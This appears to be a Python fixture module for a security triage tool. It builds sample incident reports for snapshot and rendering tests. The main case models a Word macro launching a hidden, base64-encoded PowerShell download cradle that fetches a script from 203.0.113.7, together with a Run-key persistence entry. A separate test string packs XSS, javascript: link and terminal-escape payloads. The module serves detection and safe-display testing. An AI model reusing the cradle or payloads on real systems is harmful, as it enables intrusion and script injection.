"""Reports as triage makes them, for snapshots and for looking at: six cases that a page must carry."""

from __future__ import annotations

import base64
from dataclasses import replace

from cybersecqwen.records import (
    Category,
    Citation,
    Claim,
    Event,
    Evidence,
    Finding,
    Incident,
    Indicator,
    Problem,
    ProcessNode,
    Provenance,
    Report,
    Sentence,
    Severity,
    Source,
    Technique,
    Verdict,
)

from .audit_samples import audited, unproven
from .intel_samples import comparison, hostile_story, story
from .playbook_samples import planned
from .query_samples import asked_back, constructed, hostile_query, improved
from .review_samples import clean, reviewed
from .samples_logs import logs, quiet_logs

START = 1_772_442_847.25  # 2026-03-02 09:14:07.250 UTC
SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/update/a.ps1')"
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
DOCUMENT = r'"C:\Users\alice\Downloads\Invoice 2026-03.docm"'
CALL = f"powershell.exe -nop -w hidden -enc {ENCODED}"

PROVENANCE = Provenance(version="0.1.0", knowledge="2025-11-18", rules="3fa29c71d0be55aa")
TIMINGS = {"read": 2.61, "detect": 7.94, "assess": 1.12, "write": 0.88, "verify": 1.73}


def process_event(
    number: int, seconds: float, image: str, command: str, parent: str, pid: int, **more: str
) -> Event:
    """A Sysmon process creation on WS-042."""
    fields = {
        "UtcTime": "2026-03-02 09:14:07.250",
        "ProcessId": str(pid),
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": "C:\\Users\\alice\\",
        "ParentImage": parent,
        "User": "CORP\\alice",
        **more,
    }
    return Event(
        id=f"e{number}",
        category=Category.PROCESS,
        time=START + seconds,
        provider="Microsoft-Windows-Sysmon",
        channel="Microsoft-Windows-Sysmon/Operational",
        code="1",
        host="WS-042.corp.example",
        user="CORP\\alice",
        fields=fields,
        source=Source(path="alert.json", record=number, offset=number * 1873, format="winlogbeat"),
    )


def node(
    key: str, parent: str, image: str, command: str, seconds: float, pid: int, **more: object
) -> ProcessNode:
    """A process of the tree."""
    base = ProcessNode(
        key=key,
        parent=parent,
        name=image.rpartition("\\")[2],
        image=image,
        command=command,
        user="CORP\\alice",
        time=START + seconds,
        pid=str(pid),
        event="",
    )
    return replace(base, **more)  # type: ignore[arg-type]


def _quote(event: str, field: str, value: str, layer: str = "") -> Evidence:
    return Evidence(event=event, field=field, value=value, layer=layer)


def _office_events() -> tuple[Event, ...]:
    network = Event(
        id="e5",
        category=Category.NETWORK,
        time=START + 4.11,
        provider="Microsoft-Windows-Sysmon",
        code="3",
        host="WS-042.corp.example",
        user="CORP\\alice",
        fields={
            "Image": POWERSHELL,
            "DestinationIp": "203.0.113.7",
            "DestinationPort": "80",
            "ProcessId": "7402",
        },
        source=Source(path="alert.json", record=5, format="winlogbeat"),
    )
    run_key = Event(
        id="e6",
        category=Category.REGISTRY,
        time=START + 21.9,
        provider="Microsoft-Windows-Sysmon",
        code="13",
        host="WS-042.corp.example",
        user="CORP\\alice",
        fields={
            "Image": POWERSHELL,
            "TargetObject": r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate",
            "Details": r"C:\Users\alice\AppData\Roaming\odu.exe",
        },
        source=Source(path="alert.json", record=6, format="winlogbeat"),
    )
    return (
        process_event(2, 0, WINWORD, f'"{WINWORD}" /n {DOCUMENT}', r"C:\Windows\explorer.exe", 7120),
        process_event(3, 2.4, CMD, f"cmd.exe /c {CALL}", WINWORD, 7340),
        process_event(4, 2.9, POWERSHELL, CALL, CMD, 7402),
        network,
        run_key,
        process_event(7, 24.3, r"C:\Windows\System32\whoami.exe", "whoami /all", POWERSHELL, 7466),
    )


def _office_findings() -> tuple[Finding, ...]:
    return (
        Finding(
            signal="office-starts-shell",
            title="An Office program started a shell",
            weight=3.2,
            severity=Severity.HIGH,
            techniques=("T1204.002", "T1059.003"),
            events=("e3",),
            evidence=(_quote("e3", "ParentImage", WINWORD), _quote("e3", "Image", CMD)),
            why="Documents have no reason to start a command interpreter; macros and exploits do.",
            ordinary="Some accounting add-ins run batch files from Excel.",
            group="ancestry",
        ),
        Finding(
            signal="encoded-download-cradle",
            title="An encoded command downloads a script and runs it in memory",
            weight=2.8,
            severity=Severity.CRITICAL,
            techniques=("T1059.001", "T1027", "T1105"),
            events=("e3", "e4"),
            count=2,
            evidence=(
                _quote("e4", "CommandLine", f"-enc {ENCODED}"),
                _quote("e4", "CommandLine", SCRIPT, "base64 > utf-16"),
                _quote("e4", "CommandLine", "DownloadString", "base64 > utf-16"),
            ),
            why="What is fetched never touches the disk, so no file is left to scan.",
            ordinary="Installation one-liners of package managers look alike but are seldom encoded.",
        ),
        Finding(
            signal="run-key-in-user-profile",
            title="A program in a user's profile was set to start at logon",
            weight=1.6,
            severity=Severity.HIGH,
            techniques=("T1547.001",),
            events=("e6",),
            evidence=(
                _quote("e6", "TargetObject", r"CurrentVersion\Run\OneDriveUpdate"),
                _quote("e6", "Details", r"C:\Users\alice\AppData\Roaming\odu.exe"),
            ),
            why="Run keys survive a restart and need no administrator.",
            ordinary="Chat and synchronisation clients install themselves like this.",
        ),
        Finding(
            signal="hidden-window",
            title="A window was hidden from the user",
            weight=0.9,
            severity=Severity.MEDIUM,
            techniques=("T1564.003",),
            events=("e3", "e4"),
            count=2,
            evidence=(_quote("e4", "CommandLine", "-w hidden"),),
        ),
        Finding(
            signal="account-discovery",
            title="The account's own rights were listed",
            weight=0.4,
            severity=Severity.LOW,
            techniques=("T1033",),
            events=("e7",),
            evidence=(_quote("e7", "CommandLine", "whoami /all"),),
        ),
        Finding(
            signal="signed-parent",
            title="The first program is signed by its vendor and stands where it was installed",
            weight=-0.6,
            severity=Severity.INFORMATIONAL,
            events=("e2",),
            evidence=(_quote("e2", "Image", WINWORD),),
            why="Planted programs seldom stand in a folder that only administrators may write.",
        ),
    )


def _office_techniques() -> tuple[Technique, ...]:
    rows = (
        ("T1204.002", "Malicious File", ("execution",), "office-starts-shell"),
        ("T1059.003", "Windows Command Shell", ("execution",), "office-starts-shell"),
        ("T1059.001", "PowerShell", ("execution",), "encoded-download-cradle"),
        (
            "T1547.001",
            "Registry Run Keys / Startup Folder",
            ("persistence", "privilege-escalation"),
            "run-key-in-user-profile",
        ),
        ("T1027", "Obfuscated Files or Information", ("defense-evasion",), "encoded-download-cradle"),
        ("T1564.003", "Hidden Window", ("defense-evasion",), "hidden-window"),
        ("T1033", "System Owner/User Discovery", ("discovery",), "account-discovery"),
        ("T1105", "Ingress Tool Transfer", ("command-and-control",), "encoded-download-cradle"),
    )
    return tuple(Technique(id=a, name=b, tactics=c, findings=(d,)) for a, b, c, d in rows)


def _office_indicators() -> tuple[Indicator, ...]:
    decoded = _quote("e4", "CommandLine", SCRIPT, "base64 > utf-16")
    url = "http://203.0.113.7/update/a.ps1"
    file = r"C:\Users\alice\AppData\Roaming\odu.exe"
    return (
        Indicator(type="url", value=url, raw=url, evidence=decoded),
        Indicator(
            type="ipv4",
            value="203.0.113.7",
            raw="203.0.113.7",
            evidence=_quote("e5", "DestinationIp", "203.0.113.7"),
        ),
        Indicator(type="file", value=file.lower(), raw=file, evidence=_quote("e6", "Details", file)),
        Indicator(
            type="file",
            value=CMD.lower(),
            raw=CMD,
            evidence=_quote("e3", "Image", CMD),
            note="operating system file",
        ),
    )


def office() -> Report:
    """Word, cmd, PowerShell with an encoded download: the case that explains the product."""
    incident = Incident(
        id="i1",
        title="Word started a shell that ran an encoded download on WS-042",
        verdict=Verdict.MALICIOUS,
        severity=Severity.CRITICAL,
        confidence=0.984,
        score=5.7,
        hosts=("WS-042.corp.example",),
        users=("CORP\\alice",),
        start=START,
        end=START + 24.3,
        findings=_office_findings(),
        techniques=_office_techniques(),
        indicators=_office_indicators(),
        processes=(
            node("p0", "", r"C:\Windows\explorer.exe", r"C:\Windows\explorer.exe", -5000, 4312),
            node(
                "p1",
                "p0",
                WINWORD,
                f'"{WINWORD}" /n {DOCUMENT}',
                0,
                7120,
                event="e2",
                signals=("signed-parent",),
            ),
            node(
                "p2",
                "p1",
                CMD,
                f"cmd.exe /c {CALL}",
                2.4,
                7340,
                event="e3",
                signals=("office-starts-shell", "encoded-download-cradle", "hidden-window"),
            ),
            node(
                "p3",
                "p2",
                POWERSHELL,
                CALL,
                2.9,
                7402,
                event="e4",
                signals=("encoded-download-cradle", "hidden-window", "run-key-in-user-profile"),
            ),
            node(
                "p4",
                "p2",
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                2.5,
                7352,
            ),
            node(
                "p5",
                "p3",
                r"C:\Windows\System32\whoami.exe",
                "whoami /all",
                24.3,
                7466,
                event="e7",
                signals=("account-discovery",),
            ),
        ),
        events=_office_events(),
        event_count=37,
        claims=(
            Claim(
                product="elastic",
                rule="Suspicious MS Office Child Process",
                rule_id="a624863f-a70d-417f-a7d2-7a404638d47f",
                severity=Severity.MEDIUM,
                techniques=("T1566.001",),
            ),
        ),
        reasons=(
            "Start: −2.6, the share of attacks among recordings of this kind.",
            "For an attack: office-starts-shell +3.2, encoded-download-cradle +2.8, "
            "run-key-in-user-profile +1.6, hidden-window +0.9, account-discovery +0.4.",
            "For the ordinary: signed-parent −0.6.",
            "Sum +5.7, which is malicious from +3.0; calibrated confidence 98 %.",
            "Severity critical: the most severe finding that speaks for an attack.",
        ),
        next_steps=(
            "Isolate WS-042 from the network; the second stage may be running in memory.",
            "Block 203.0.113.7 and search all hosts for connections to it since 2026-03-02 09:14 UTC.",
            "Collect the memory of powershell.exe (pid 7402) before it ends.",
            r"Take copies of the Run value OneDriveUpdate and of C:\Users\alice\AppData\Roaming\odu.exe, "
            "then remove both.",
            "Find who else received Invoice 2026-03.docm.",
        ),
    )
    return Report(
        task="triage",
        verdict=incident.verdict,
        severity=incident.severity,
        confidence=incident.confidence,
        title=incident.title,
        sources=("alert.json",),
        counts={"events": 37, "alerts": 1, "damaged": 1, "kept": 37},
        incidents=(incident,),
        findings=incident.findings,
        indicators=incident.indicators,
        techniques=incident.techniques,
        narrative=(
            Sentence(
                text="On 2026-03-02 at 09:14:09 UTC, WINWORD.EXE on WS-042 started cmd.exe, "
                "which started powershell.exe with an encoded command.",
                writer="csq",
                events=("e3", "e4"),
            ),
            Sentence(
                text="Decoded, the command downloads http://203.0.113.7/update/a.ps1 and runs it in memory.",
                writer="csq",
                events=("e4",),
            ),
            Sentence(
                text="19 seconds later the same process set odu.exe to start whenever alice logs on.",
                writer="csq",
                events=("e6",),
            ),
            Sentence(
                text="Opening Invoice 2026-03.docm is the likely start of this chain.",
                writer="smollm2-135m",
                events=("e2",),
            ),
        ),
        citations=(
            Citation(
                id="T1059.001",
                name="PowerShell",
                source="ATT&CK enterprise 18.1",
                url="https://attack.mitre.org/techniques/T1059/001",
            ),
            Citation(
                id="T1204.002",
                name="Malicious File",
                source="ATT&CK enterprise 18.1",
                url="https://attack.mitre.org/techniques/T1204/002",
            ),
        ),
        problems=(
            Problem(
                stage="read",
                message="One record could not be read: it ends in the middle of a string.",
                subject="alert.json:38",
            ),
            Problem(
                stage="verify",
                message="A sentence of the model was left out: it names a file that is not in the evidence.",
                subject="smollm2-135m",
                count=2,
            ),
        ),
        timings_ms=TIMINGS,
        provenance=replace(PROVENANCE, models=("smollm2-135m",)),
    )


def benign() -> Report:
    """An administrator's morning: context outweighs the little that looks odd."""
    events = (
        replace(
            process_event(
                1,
                0,
                POWERSHELL,
                r"powershell.exe -File C:\Admin\Scripts\Get-DiskReport.ps1",
                r"C:\Windows\explorer.exe",
                5120,
            ),
            user="CORP\\adm-bob",
        ),
        replace(
            process_event(
                2,
                340,
                r"C:\Windows\System32\mmc.exe",
                r"mmc.exe C:\Windows\system32\dsa.msc",
                r"C:\Windows\explorer.exe",
                5544,
            ),
            user="CORP\\adm-bob",
        ),
    )
    incident = Incident(
        id="i1",
        title="Ordinary administration on ADM-03",
        verdict=Verdict.BENIGN,
        severity=Severity.INFORMATIONAL,
        confidence=0.93,
        score=-2.9,
        hosts=("ADM-03.corp.example",),
        users=("CORP\\adm-bob",),
        start=START,
        end=START + 7860,
        findings=(
            Finding(
                signal="administrators-path",
                title="Scripts run from a folder that only administrators may write",
                weight=-1.4,
                severity=Severity.INFORMATIONAL,
                events=("e1",),
                evidence=(_quote("e1", "CommandLine", r"C:\Admin\Scripts\Get-DiskReport.ps1"),),
            ),
            Finding(
                signal="management-console",
                title="Management consoles were opened by hand",
                weight=-0.7,
                severity=Severity.INFORMATIONAL,
                events=("e2",),
                evidence=(_quote("e2", "CommandLine", r"mmc.exe C:\Windows\system32\dsa.msc"),),
            ),
            Finding(
                signal="script-without-profile",
                title="PowerShell ran a script file",
                weight=0.3,
                severity=Severity.LOW,
                techniques=("T1059.001",),
                events=("e1",),
                evidence=(_quote("e1", "CommandLine", "-File"),),
            ),
        ),
        techniques=(
            Technique(
                id="T1059.001",
                name="PowerShell",
                tactics=("execution",),
                findings=("script-without-profile",),
            ),
        ),
        processes=(
            node("p0", "", r"C:\Windows\explorer.exe", "explorer.exe", -900, 4000),
            node(
                "p1",
                "p0",
                POWERSHELL,
                r"powershell.exe -File C:\Admin\Scripts\Get-DiskReport.ps1",
                0,
                5120,
                event="e1",
                signals=("script-without-profile", "administrators-path"),
            ),
            node(
                "p2",
                "p0",
                r"C:\Windows\System32\mmc.exe",
                r"mmc.exe C:\Windows\system32\dsa.msc",
                340,
                5544,
                event="e2",
                signals=("management-console",),
            ),
        ),
        events=events,
        event_count=1204,
        reasons=(
            "Start: −1.1.",
            "For an attack: +0.3. For the ordinary: −2.1.",
            "Sum −2.9, which is benign up to −1.5.",
        ),
        next_steps=("Nothing to do.",),
    )
    return Report(
        task="triage",
        verdict=incident.verdict,
        severity=incident.severity,
        confidence=incident.confidence,
        title="An administrator's ordinary morning on ADM-03",
        sources=("morning.evtx",),
        counts={"events": 1204},
        incidents=(incident,),
        findings=incident.findings,
        techniques=incident.techniques,
        narrative=(
            Sentence(
                text="adm-bob ran a disk report and opened Active Directory Users and Computers; "
                "both are usual on ADM-03.",
                writer="csq",
            ),
        ),
        timings_ms={"read": 31.2, "detect": 12.8, "assess": 0.4},
        provenance=PROVENANCE,
    )


_MANY = (
    (
        "A service was installed over the network and ran as SYSTEM",
        Verdict.MALICIOUS,
        Severity.CRITICAL,
        0.97,
    ),
    ("LSASS memory was read by a program in a temporary folder", Verdict.MALICIOUS, Severity.CRITICAL, 0.96),
    ("The security log was cleared", Verdict.MALICIOUS, Severity.HIGH, 0.91),
    ("An unusual parent started rundll32.exe", Verdict.SUSPICIOUS, Severity.HIGH, 0.74),
    ("43 failed logons, then a successful one", Verdict.SUSPICIOUS, Severity.MEDIUM, 0.71),
    (
        "A scheduled task runs an encoded command of a management agent",
        Verdict.NEEDS_REVIEW,
        Severity.MEDIUM,
        0.58,
    ),
    ("Remote registry reads by an inventory account", Verdict.BENIGN, Severity.LOW, 0.88),
)


def many() -> Report:
    """Seventeen incidents over a large recording."""
    model = office().incidents[0]
    incidents = [model]
    for number in range(2, 18):
        title, verdict, severity, confidence = _MANY[(number - 2) * len(_MANY) // 16]
        sign = -1 if verdict is Verdict.BENIGN else 1
        incidents.append(
            replace(
                model,
                id=f"i{number}",
                title=title,
                verdict=verdict,
                severity=severity,
                confidence=confidence,
                score=sign * confidence * 4,
                hosts=(f"SRV-{number:02d}.corp.example",),
                users=("NT AUTHORITY\\SYSTEM",),
                start=START + number * 613,
                end=START + number * 613 + 90,
                claims=(),
            )
        )
    return replace(
        office(),
        title="17 incidents on 17 hosts, 6 of them malicious",
        sources=("export-2026-03-02.zip!Security.evtx", "export-2026-03-02.zip!Sysmon.evtx", "alerts.ndjson"),
        counts={"events": 231_280, "alerts": 412, "damaged": 3},
        incidents=tuple(incidents),
        narrative=(
            Sentence(
                text="The attack begins with a document on WS-042 and reaches 16 servers within three hours.",
                writer="csq",
            ),
        ),
        timings_ms={"read": 1840.0, "detect": 2210.5, "assess": 64.0, "write": 2.2},
    )


HOSTILE = (
    "\x1b[2J\x1b[1;1H\x1b]0;owned\x07‮exe.cod​\ud800 "
    "[bold red]x[/] :bomb: <script>alert(1)</script><img src=x onerror=alert(1)> "
    "![x](http://evil.example/x.png) [click](javascript:alert(1)) <http://evil.example> | `a` ``b`` "
    "\r\n# heading\n- item @everyone & &lt; ]]> --> \"'"
)


def hostile() -> Report:
    """The same text, which tries everything, in every field that comes from outside."""
    bad = HOSTILE
    quote = Evidence(event=bad, field=bad, value=bad, layer=bad)
    technique = Technique(id=bad, name=bad, tactics=(bad,), findings=(bad,))
    indicator = Indicator(type="url", value="http://evil.example/" + bad, raw=bad, evidence=quote, note="")
    finding = Finding(
        signal=bad, title=bad, weight=float("nan"), severity=Severity.HIGH, techniques=(bad,), events=(bad,),
        count=3, evidence=(quote,), why=bad, ordinary=bad, group=bad,
    )  # fmt: skip
    context = replace(finding, signal="context", weight=float("-inf"))
    process = ProcessNode(
        key="a",
        parent="b",
        name=bad,
        image=bad,
        command=bad,
        user=bad,
        time=1e300,
        pid=bad,
        event=bad,
        signals=(bad,),
    )
    claim = Claim(product=bad, rule=bad, rule_id=bad, description=bad, techniques=(bad,), fields={bad: bad})
    event = Event(
        id=bad, category=Category.OTHER, time=float("inf"), provider=bad, channel=bad, code=bad, host=bad,
        user=bad, fields={bad: "before " + bad + " after"}, claim=claim,
        source=Source(path=bad, member=bad, record=7, format=bad),
    )  # fmt: skip
    incident = Incident(
        id=bad, title=bad, verdict=Verdict.SUSPICIOUS, severity=Severity.HIGH, confidence=float("nan"),
        score=float("inf"), hosts=(bad,), users=(bad,), start=-1e18, end=float("nan"),
        findings=(finding, context), techniques=(technique,),
        indicators=(indicator, replace(indicator, note=bad)),
        processes=(process, replace(process, key="b", parent="a"), replace(process, key="c", parent="c")),
        events=(event,), event_count=-1, claims=(claim,), reasons=(bad,), next_steps=(bad,),
    )  # fmt: skip
    return Report(
        task=bad, verdict=Verdict.SUSPICIOUS, severity=Severity.HIGH, confidence=7.5, title=bad,
        sources=(bad,),
        counts={bad: 2}, incidents=(incident,), findings=(replace(finding, signal="outside"),),
        indicators=(replace(indicator, type=bad, value=bad),),
        techniques=(replace(technique, id="T9999 " + bad),),
        narrative=(Sentence(text=bad, writer=bad, events=(bad,)), Sentence(text=bad, writer="csq")),
        citations=(Citation(id=bad, name=bad, source=bad, url="javascript:alert(1)"),),
        problems=(Problem(stage=bad, message=bad, subject=bad, count=2),), timings_ms={bad: float("nan")},
        provenance=Provenance(version=bad, models=(bad,), knowledge=bad, rules=bad),
        extra={bad: [bad, 1 << 70]},
    )  # fmt: skip


def empty() -> Report:
    """Events were read and nothing was found in them."""
    return Report(
        task="triage",
        verdict=Verdict.BENIGN,
        severity=Severity.INFORMATIONAL,
        confidence=0.81,
        sources=("-",),
        counts={"events": 1},
        provenance=Provenance(version="0.1.0"),
    )


def nameless() -> Report:
    """Signals without hosts, users, times, processes or kept events, as from a bare alert."""
    incident = replace(
        office().incidents[0],
        title="An alert names an encoded download",
        verdict=Verdict.NEEDS_REVIEW,
        severity=Severity.MEDIUM,
        confidence=0.55,
        hosts=(),
        users=(),
        start=None,
        end=None,
        processes=(),
        events=(),
        event_count=0,
    )
    return replace(
        office(),
        title="",
        verdict=Verdict.NEEDS_REVIEW,
        severity=Severity.MEDIUM,
        confidence=0.55,
        incidents=(incident,),
        narrative=(),
        problems=(),
    )


def answer() -> Report:
    """An answer to a question with options; its texts come from a source that may be hostile."""
    passages = [
        {
            "id": "T1059.001",
            "name": "PowerShell",
            "section": "mitigation",
            "other": "M1045",
            "other_name": "Code Signing",
            "text": "Let only signed scripts run, see https://docs.example.com/a <b>now</b> [link](x).",
            "source": "attack-enterprise 18.1",
            "url": "https://attack.mitre.org/techniques/T1059/001",
        },
        {
            "id": "T1059.001",
            "name": "PowerShell",
            "section": "facts",
            "other": "",
            "other_name": "",
            "text": "PowerShell (T1059.001) is mitigated by the mitigation Code Signing (M1045).",
            "source": "attack-enterprise 18.1",
            "url": "https://attack.mitre.org/techniques/T1059/001",
        },
    ]
    options = [
        {"letter": "A", "text": "Network Segmentation", "probability": 0.0612, "chosen": False},
        {"letter": "B", "text": "Code Signing", "probability": 0.9388, "chosen": True},
    ]
    return Report(
        task="ask",
        verdict=Verdict.BENIGN,
        severity=Severity.INFORMATIONAL,
        confidence=0.9388,
        title="Which mitigation lets only trusted PowerShell scripts run?",
        counts={"passages": 2},
        narrative=(
            Sentence(text="Let only signed scripts run.", writer="csq"),
            Sentence(text="Code Signing lets only signed scripts run.", writer="qwen2.5-coder-1.5b-instruct"),
        ),
        citations=(
            Citation(
                id="T1059.001",
                name="PowerShell",
                source="attack-enterprise 18.1",
                url="https://attack.mitre.org/techniques/T1059/001",
            ),
            Citation(id="M1045", name="Code Signing", source="attack-enterprise 18.1"),
        ),
        timings_ms={"answer": 16.4, "verify": 0.2},
        provenance=replace(PROVENANCE, rules="", models=("qwen2.5-coder-1.5b-instruct",)),
        extra={
            "question": "Which mitigation lets only trusted PowerShell scripts run?",
            "negated": False,
            "answered": True,
            "support": 0.9388,
            "options": options,
            "passages": passages,
        },
    )


def no_answer() -> Report:
    """A question that the store says nothing about, with an identifier that was made up."""
    return replace(
        answer(),
        confidence=0.0031,
        title="What does T9999 do?",
        narrative=(Sentence(text="Not in my sources.", writer="csq"),),
        citations=(),
        problems=(
            Problem(
                stage="knowledge",
                message="No such identifier was assigned by the date of the knowledge bundle.",
                subject="T9999",
            ),
        ),
        provenance=replace(PROVENANCE, rules=""),
        extra={
            "question": "What does T9999 do?",
            "negated": False,
            "answered": False,
            "support": 0.0031,
            "options": [],
            "passages": [],
        },
    )


SAMPLES = {
    "office": office,
    "benign": benign,
    "many": many,
    "hostile": hostile,
    "empty": empty,
    "nameless": nameless,
    "answer": answer,
    "no-answer": no_answer,
    "logs": logs,
    "logs-quiet": quiet_logs,
    "intel": story,
    "intel-diff": comparison,
    "intel-hostile": lambda: hostile_story(HOSTILE),
    "query": constructed,
    "query-asked-back": asked_back,
    "query-improved": improved,
    "query-hostile": lambda: hostile_query(HOSTILE),
    "review": reviewed,
    "review-clean": clean,
    "review-hostile": lambda: reviewed(HOSTILE),
    "audit": audited,
    "audit-unproven": unproven,
    "audit-hostile": lambda: audited(HOSTILE),
    "playbook": planned,
    "playbook-hostile": lambda: planned(HOSTILE),
}
"""Name to builder."""
